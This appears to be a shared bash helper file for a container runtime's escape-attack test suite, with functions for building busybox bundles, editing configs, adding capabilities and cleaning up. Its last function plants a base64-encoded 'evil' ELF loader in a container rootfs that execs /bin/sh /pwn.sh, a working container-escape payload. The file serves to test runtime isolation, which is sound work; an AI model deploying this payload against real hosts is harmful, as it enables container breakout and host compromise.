# Shared helpers for the attack tests in integration/attacks/. Sourced by every attack script,
# which run.sh starts with:
#   RUNTIME      absolute path of the runtime under test (runc-compatible CLI)
#   WORK         a fresh private temp dir (removed at the end)
#   ROOT         a private --root state dir inside WORK
#   ATTACK       the attack's name (file name without .sh)
#   RESULT_FILE  where the verdict goes (one line: "<kind>\t<message>")
#
# An attack calls `finish blocked|escaped|error|skipped MESSAGE` exactly once; the EXIT trap then
# deletes the containers of $ROOT, kills the helper processes the attack started, kills what is
# left in the test's own cgroups (/atk-$$-*), unmounts everything under $WORK and removes $WORK.
# Nothing here touches a host file outside $WORK, a host cgroup other than /atk-$$-*, or a pid
# that is not a child of the attack or inside one of those cgroups.

set -u
: "${RUNTIME:?}" "${WORK:?}" "${ROOT:?}" "${ATTACK:?}" "${RESULT_FILE:?}"
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin

ATK_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
BUSYBOX=${BUSYBOX:-/bin/busybox}
RT=$RUNTIME                      # the binary rt() runs (exe-* attacks point it at a copy)
RT_NAME=$(basename "$RUNTIME")
CG_PREFIX="/atk-$$-$ATTACK"      # every cgroupsPath of the attack starts with this
ID_PREFIX="atk-$ATTACK-$$"       # every container id of the attack starts with this
mkdir -p "$WORK" "$ROOT"

_ATK_PIDS=()
_ATK_CLEANUPS=()

log() { printf '[%s %s] %s\n' "$ATTACK" "$(date +%T.%3N)" "$*"; }

# finish KIND MESSAGE: record the verdict (the first one wins) and exit (cleanup runs).
finish() {
    local kind=$1
    shift
    if [ ! -s "$RESULT_FILE" ]; then
        printf '%s\t%s\n' "$kind" "$*" | tr -d '\r' | head -c 2000 >"$RESULT_FILE"
    fi
    log "verdict: $kind: $*"
    exit 0
}

# One line of text from a file (for messages): its first non-empty lines, joined.
oneline() { [ -f "$1" ] && sed 's/\x00/\\0/g' "$1" | grep -av '^[[:space:]]*$' | head -n "${2:-3}" | tr '\n\t' '  ' | cut -c1-300; }

# rt ARGS...: the runtime under test with the attack's private --root, bounded in time.
rt() { timeout -k 3 "${RT_TIMEOUT:-20}" "$RT" --root "$ROOT" "$@"; }

track_pid() { _ATK_PIDS+=("$@"); }
on_cleanup() { _ATK_CLEANUPS+=("$1"); }

# Kill what is still in the attack's own cgroups (container processes of this attack only).
_kill_own_cgroups() {
    local d p
    for d in /sys/fs/cgroup/atk-$$-* /sys/fs/cgroup/*/atk-$$-*; do
        [ -d "$d" ] || continue
        for p in $(cat "$d/cgroup.procs" 2>/dev/null); do kill -KILL "$p" 2>/dev/null; done
    done
}

_rmdir_own_cgroups() {
    local d
    for d in /sys/fs/cgroup/atk-$$-* /sys/fs/cgroup/*/atk-$$-*; do
        [ -d "$d" ] && rmdir "$d" 2>/dev/null
    done
    return 0
}

# Unmount everything mounted at or below $1 (deepest first), in this mount namespace.
umount_under() {
    local dir=$1 mp
    for _ in 1 2 3; do
        mp=$(awk -v d="$dir" '$5 == d || index($5, d "/") == 1 {print $5}' /proc/self/mountinfo | sort -r)
        [ -z "$mp" ] && return 0
        for m in $mp; do umount -l "$m" 2>/dev/null; done
    done
}

_atk_cleanup() {
    set +e
    trap - EXIT TERM INT HUP
    local f d id p
    for f in "${_ATK_CLEANUPS[@]}"; do "$f"; done
    for d in "$ROOT"/*/; do
        [ -d "$d" ] || continue
        id=$(basename "$d")
        timeout -k 2 15 "$RUNTIME" --root "$ROOT" delete --force "$id" >/dev/null 2>&1
    done
    for p in "${_ATK_PIDS[@]}"; do kill -KILL "$p" 2>/dev/null; done
    _kill_own_cgroups
    sleep 0.2
    for d in "$ROOT"/*/; do
        [ -d "$d" ] || continue
        timeout -k 2 15 "$RUNTIME" --root "$ROOT" delete --force "$(basename "$d")" >/dev/null 2>&1
    done
    _rmdir_own_cgroups
    umount_under "$WORK"
    rm -rf --one-file-system "$WORK"
}
trap _atk_cleanup EXIT
trap 'exit 143' TERM INT HUP

# make_rootfs DIR: a busybox root file system (static busybox and its applets in /bin).
make_rootfs() {
    local r=$1 a
    mkdir -p "$r"/bin "$r"/dev "$r"/proc "$r"/sys "$r"/tmp "$r"/etc "$r"/root "$r"/run
    cp "$BUSYBOX" "$r/bin/busybox"
    for a in $("$BUSYBOX" --list); do
        [ "$a" = busybox ] || ln -s busybox "$r/bin/$a"
    done
    echo "root:x:0:0:root:/root:/bin/sh" >"$r/etc/passwd"
    echo "root:x:0:" >"$r/etc/group"
}

# cfg DIR JQ-ARGS...: edit DIR/config.json in place with jq.
cfg() {
    local dir=$1
    shift
    jq "$@" <"$dir/config.json" >"$dir/config.json.new" && mv "$dir/config.json.new" "$dir/config.json" ||
        finish error "editing $dir/config.json with jq failed: $*"
}

# make_bundle DIR [NAME]: DIR/rootfs plus the runtime's own default config.json (`spec`), with
# terminal off, a writable root, cgroupsPath $CG_PREFIX-NAME and args `sleep 1000`.
make_bundle() {
    local dir=$1 name=${2:-c}
    mkdir -p "$dir"
    make_rootfs "$dir/rootfs"
    (cd "$dir" && "$RUNTIME" spec >/dev/null 2>&1) || (cd "$dir" && "$RUNTIME" spec) ||
        finish error "\`$RT_NAME spec\` failed"
    cfg "$dir" --arg cg "$CG_PREFIX-$name" '.process.terminal = false
        | .root.path = "rootfs" | .root.readonly = false
        | .linux.cgroupsPath = $cg
        | .process.args = ["sleep", "1000"]'
}

# set_args DIR ARG...: process.args.
set_args() {
    local dir=$1 a json='[]'
    shift
    for a in "$@"; do json=$(jq -c --arg a "$a" '. + [$a]' <<<"$json"); done
    cfg "$dir" --argjson args "$json" '.process.args = $args'
}

# add_caps DIR CAP...: add capabilities to every set of process.capabilities.
add_caps() {
    local dir=$1
    shift
    local json
    json=$(printf '%s\n' "$@" | jq -R . | jq -cs .)
    cfg "$dir" --argjson caps "$json" '.process.capabilities |= with_entries(.value = ((.value // []) + $caps | unique))'
}

# wait_for FILE REGEX SECONDS: true as soon as FILE has a line matching REGEX.
wait_for() {
    local f=$1 re=$2 n=$(( ${3:-10} * 10 ))
    while [ "$n" -gt 0 ]; do
        grep -qE "$re" "$f" 2>/dev/null && return 0
        sleep 0.1
        n=$((n - 1))
    done
    return 1
}

# wait_exists PATH SECONDS: true as soon as PATH exists.
wait_exists() {
    local n=$(( ${2:-10} * 10 ))
    while [ "$n" -gt 0 ]; do
        [ -e "$1" ] && return 0
        sleep 0.1
        n=$((n - 1))
    done
    return 1
}

# status ID: the container's status as the runtime reports it ("" if unknown). State queries use
# the installed runtime, as a copy may have been overwritten by then.
status() { RT=$RUNTIME rt state "$1" 2>/dev/null | jq -r '.status // empty' 2>/dev/null; }

# init_pid ID: the container init's host pid.
init_pid() { RT=$RUNTIME rt state "$1" 2>/dev/null | jq -r '.pid // empty' 2>/dev/null; }

# wait_stopped ID SECONDS
wait_stopped() {
    local n=$(( ${2:-10} * 10 )) s
    while [ "$n" -gt 0 ]; do
        s=$(status "$1")
        [ "$s" = stopped ] || [ -z "$s" ] && return 0
        sleep 0.1
        n=$((n - 1))
    done
    return 1
}

# copy_runtime: put a copy of the runtime in $WORK/bin and make rt() run it. The copy is the
# target of the binary-overwrite attacks; the installed binary is never run by them.
copy_runtime() {
    mkdir -p "$WORK/bin"
    RUNTIME_COPY="$WORK/bin/$RT_NAME"
    cp "$RUNTIME" "$RUNTIME_COPY"
    chmod 755 "$RUNTIME_COPY"
    RT=$RUNTIME_COPY
}

sha() { sha256sum "$1" | cut -d' ' -f1; }

# A console socket receiver (python3): listens on $1, receives the pty master sent with
# SCM_RIGHTS, copies what the container writes to it into $2, until the pty closes.
write_recvtty() {
    cat >"$1" <<'EOF'
import array, os, socket, sys
path, out = sys.argv[1], sys.argv[2]
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(path)
s.listen(4)
open(path + ".ready", "w").close()
c, _ = s.accept()
fds = array.array("i")
msg, anc, flags, addr = c.recvmsg(4096, socket.CMSG_SPACE(16 * fds.itemsize))
for level, typ, data in anc:
    if level == socket.SOL_SOCKET and typ == socket.SCM_RIGHTS:
        fds.frombytes(data[: len(data) - (len(data) % fds.itemsize)])
if not fds:
    sys.exit("no fd received")
with open(out, "ab", buffering=0) as f:
    f.write(b"[recvtty: got pty master]\n")
    while True:
        try:
            d = os.read(fds[0], 4096)
        except OSError:
            break
        if not d:
            break
        f.write(d)
EOF
}

# The evil ELF interpreter (evil-ld.S, assembled): planted as /lib64/ld-linux-x86-64.so.2 in a
# rootfs, it runs instead of the dynamic loader of any dynamically linked program the container
# executes, opens /proc/self/exe (that program) read-only as fd 9 and execs `/bin/sh /pwn.sh`.
# Rebuild: gcc -nostdlib -fPIC -shared -Wl,-e,_start -Wl,--build-id=none -Wl,-z,norelro \
#            -Wl,-z,noseparate-code -Wl,--hash-style=gnu -s -o evil-ld evil-ld.S
# runtime_interp: the ELF interpreter the runtime binary asks for ("" if statically linked).
runtime_interp() {
    if command -v readelf >/dev/null; then
        readelf -lW "$RUNTIME" 2>/dev/null | sed -n 's/.*Requesting program interpreter: \(.*\)]/\1/p'
    else
        head -c 4096 "$RUNTIME" | grep -ao '/lib[^[:space:]]*/ld-linux[^[:space:]]*\.so\.[0-9]' | head -n1
    fi
}

plant_evil_ld() {
    local r=$1 interp
    # The loader the runtime binary asks for (all of ours ask for this one on x86_64).
    interp=$(runtime_interp)
    [ -n "$interp" ] || interp=/lib64/ld-linux-x86-64.so.2
    mkdir -p "$r$(dirname "$interp")"
    base64 -d >"$r$interp" <<'EOF'
f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAASAEAAAAAAABAAAAAAAAAAAgDAAAAAAAAAAAAAEAAOAAD
AEAACgAJAAEAAAAFAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA4AEAAAAAAADgAQAAAAAAAAAQ
AAAAAAAAAQAAAAYAAADgAQAAAAAAAOARAAAAAAAA4BEAAAAAAADYAAAAAAAAANgAAAAAAAAAABAA
AAAAAAACAAAABgAAAOABAAAAAAAA4BEAAAAAAADgEQAAAAAAALAAAAAAAAAAsAAAAAAAAAAIAAAA
AAAAAAIAAAABAAAAAQAAAAYAAAAAAQAAAAAEAAEAAAAAAAAAM2Lb7QAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAABAAAAEAAEAEgBAAAAAAAAAAAAAAAAAAAAX3N0YXJ0ALgCAAAASI09XwAAADH2
MdIPBYXAeA6Jx74JAAAAuCEAAAAPBUiNPU8AAABIjTUWEQAASI0FQQAAAEiJBkiNBT8AAABIiUYI
SI0VEhEAAEiNBTUAAABIiQK4OwAAAA8Fv38AAAC4PAAAAA8FL3Byb2Mvc2VsZi9leGUAL2Jpbi9z
aAAvcHduLnNoAFBBVEg9L2JpbgAAAAAA9f7/bwAAAADoAAAAAAAAAAUAAAAAAAAAQAEAAAAAAAAG
AAAAAAAAABABAAAAAAAACgAAAAAAAAAIAAAAAAAAAAsAAAAAAAAAGAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAC5zaHN0cnRhYgAuZ251Lmhhc2gALmR5bnN5bQAuZHluc3RyAC50ZXh0AC5y
b2RhdGEALmVoX2ZyYW1lAC5keW5hbWljAC5kYXRhAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAACwAAAPb//28CAAAAAAAA
AOgAAAAAAAAA6AAAAAAAAAAkAAAAAAAAAAIAAAAAAAAACAAAAAAAAAAAAAAAAAAAABUAAAALAAAA
AgAAAAAAAAAQAQAAAAAAABABAAAAAAAAMAAAAAAAAAADAAAAAQAAAAgAAAAAAAAAGAAAAAAAAAAd
AAAAAwAAAAIAAAAAAAAAQAEAAAAAAABAAQAAAAAAAAgAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAA
AAAAAAAAJQAAAAEAAAAGAAAAAAAAAEgBAAAAAAAASAEAAAAAAABrAAAAAAAAAAAAAAAAAAAAAQAA
AAAAAAAAAAAAAAAAACsAAAABAAAAAgAAAAAAAACzAQAAAAAAALMBAAAAAAAAKQAAAAAAAAAAAAAA
AAAAAAEAAAAAAAAAAAAAAAAAAAAzAAAAAQAAAAIAAAAAAAAA4AEAAAAAAADgAQAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAIAAAAAAAAAAAAAAAAAAAAPQAAAAYAAAADAAAAAAAAAOARAAAAAAAA4AEAAAAA
AACwAAAAAAAAAAMAAAAAAAAACAAAAAAAAAAQAAAAAAAAAEYAAAABAAAAAwAAAAAAAACQEgAAAAAA
AJACAAAAAAAAKAAAAAAAAAAAAAAAAAAAAAEAAAAAAAAAAAAAAAAAAAABAAAAAwAAAAAAAAAAAAAA
AAAAAAAAAAC4AgAAAAAAAEwAAAAAAAAAAAAAAAAAAAABAAAAAAAAAAAAAAAAAAAA
EOF
    chmod 755 "$r$interp"
}
